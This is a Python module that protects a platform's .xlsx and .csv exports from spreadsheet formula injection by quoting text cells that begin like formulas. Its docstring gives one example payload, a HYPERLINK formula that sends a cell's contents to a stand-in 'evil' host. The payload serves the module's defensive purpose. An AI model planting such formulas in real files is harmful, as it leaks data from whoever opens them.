"""Every spreadsheet cell the platform writes, safe from formula injection (OWASP, "CSV Injection").

A lender's file, a debtor's name or a collector's note can hold ``=HYPERLINK("http://evil/?"&A2)``;
written back as it came, a spreadsheet program runs it when the reader opens the file. Every .xlsx
and .csv the platform produces (exports, the import's rejected rows, reconciliation results,
statements, the reports to come) is written through this module:

* ``Workbook``: xlsxwriter's, with ``strings_to_formulas``, ``strings_to_urls`` and
  ``strings_to_numbers`` off whatever the caller asks (text is always written as text), and each
  text cell that begins like a formula carries Excel's quote prefix (shown as typed, and it stays
  text when someone edits it);
* ``csv_writer``: the ``csv`` module's writer, with a text cell that begins like a formula written
  behind a single quote, as OWASP advises (a CSV has no other way to say "this is text").

A cell begins like a formula when its first character is ``=``, ``+``, ``-``, ``@``, a tab, a
carriage return or a line feed, unless the whole cell is a plain number (``-102.04`` stays as it
is). Numbers, dates and ``Decimal`` amounts are not text and pass untouched.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

FORMULA_LEADS = frozenset("=+-@\t\r\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_FORCED_OFF = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula (or a DDE command)."""
    return bool(text) and text[0] in FORMULA_LEADS and _PLAIN_NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: text that begins like a formula gets a leading single quote."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


class _CsvWriter:
    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], **options: Any) -> _CsvWriter:
    """``csv.writer(out, **options)`` whose every text cell is safe to open in a spreadsheet."""
    return _CsvWriter(out, **options)


class SafeWorksheet(Worksheet):
    """A worksheet whose text cells never become formulas, with the quote prefix where it matters."""

    quoted: Format | None = None

    def _write_string(self, row: int, col: int, string: str, cell_format: Format | None = None) -> Any:
        if cell_format is None and self.quoted is not None and formula_like(string):
            cell_format = self.quoted
        return super()._write_string(row, col, string, cell_format)

    def _write_formula(self, row: int, col: int, *args: Any) -> Any:
        # never reached through write() (strings_to_formulas is off): the platform writes no
        # formula, and a text that reached here is written as text
        formula, cell_format = args[0], (args[1] if len(args) > 1 else None)
        return self._write_string(row, col, str(formula), cell_format)


class Workbook(xlsxwriter.Workbook):
    """``xlsxwriter.Workbook`` for every .xlsx the platform writes (see the module's docstring)."""

    worksheet_class = SafeWorksheet

    def __init__(self, filename: Any, options: dict[str, Any] | None = None) -> None:
        super().__init__(filename, {**(options or {}), **_FORCED_OFF})
        self._quoted = self.add_format({"quote_prefix": True})

    def add_worksheet(self, name: str | None = None, worksheet_class: Any = None) -> Worksheet:
        sheet = super().add_worksheet(name, worksheet_class or SafeWorksheet)
        if isinstance(sheet, SafeWorksheet):
            sheet.quoted = self._quoted
        return sheet
